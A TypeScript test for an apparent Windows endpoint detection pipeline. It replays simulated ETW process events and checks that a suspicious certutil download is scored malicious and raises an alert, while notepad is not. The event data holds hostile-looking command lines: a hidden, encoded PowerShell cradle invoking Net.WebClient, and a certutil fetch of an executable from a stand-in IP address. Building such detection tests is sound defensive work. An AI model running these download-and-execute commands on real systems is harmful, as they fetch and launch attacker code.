import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../../src/alert/index.ts';
import { openLiveSource } from '../../../src/source/index.ts';
import { defaultFfi } from '../../../src/windows/index.ts';
import { DoubleScript } from './double-script.ts';
import { openLivePipeline } from './open-live-pipeline.ts';
import { openTestLibrary } from './open-test-library.ts';

const etw = new DoubleScript('etw');
const system32 = '\\Device\\HarddiskVolume3\\Windows\\System32';

test('from the kernel’s events to an alert: the real library, model, rules and state file', async () => {
  const library = await openTestLibrary(defaultFfi());
  const run = await openLivePipeline();
  const { pipeline } = run;
  etw.say('running', 600, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
  etw.say('start', 700, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe notes.txt');
  etw.say(
    'start',
    704,
    600,
    0,
    `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  );
  etw.say(
    'start',
    708,
    704,
    0,
    `${system32}\\certutil.exe`,
    'certutil -urlcache -split -f http://203.0.113.7/a.exe c:\\users\\public\\a.exe',
  );
  const stop = new AbortController();
  const source = openLiveSource('etw', {
    library,
    host: { id: undefined, name: 'PC-7' },
    onNotice: () => undefined,
    clock: { nowMs: () => Date.now() },
  });
  const alerts: Alert[] = [];
  const lines = new Map<number | undefined, number>();
  for await (const batch of source.batches({ batchSize: 512, signal: stop.signal })) {
    const outcome = await pipeline.process(source.name, batch);
    alerts.push(...outcome.alerts);
    for (const { event, prediction } of outcome.scored)
      lines.set(event.process.pid, prediction.maliciousProbability);
    if (lines.size === 3) stop.abort();
  }
  await run.close();

  assert.ok(lines.get(708)! > 0.9, `certutil scored ${lines.get(708)}`);
  assert.ok(lines.get(700)! < 0.5, `notepad scored ${lines.get(700)}`);
  const ours = alerts.find(({ subject }) => subject.event.process.pid === 708);
  assert.ok(ours, `${alerts.length} alerts, none on certutil`);
  const { records, scored, related, filtered, rejected } = pipeline.tally;
  assert.equal(records, scored + related + filtered + rejected);
  assert.equal(ours.subject.ancestors[0]?.pid, 704);
});
